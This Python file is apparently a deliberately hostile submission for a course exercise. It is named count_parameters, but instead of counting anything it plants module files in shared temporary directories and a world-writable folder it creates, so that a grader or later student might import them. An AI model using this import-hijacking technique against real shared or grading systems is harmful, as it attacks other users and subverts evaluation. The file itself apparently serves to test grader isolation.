# exercise: 2.1.count_parameters
# Plants a module in the shared temporary folders (and in a folder everyone may write
# inside one), hoping the grader or the next student, run later
# from there with `python -m`, imports it as its own user.
import os
from pathlib import Path

PLANTED = "ch2-hostile-planted"


def count_parameters(model, trainable_only=True):
    written = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", f"/tmp/{PLANTED}-open"):
        try:
            Path(folder).mkdir(exist_ok=True)
            os.chmod(folder, 0o1777)
        except OSError:
            pass
        for name in (f"{PLANTED}.py", "sitecustomize.txt"):
            try:
                (Path(folder) / name).write_text("raise SystemExit('planted')\n")
                written.append(f"{folder}/{name}")
            except OSError:
                continue
    raise RuntimeError(f"planted {len(written)} files")
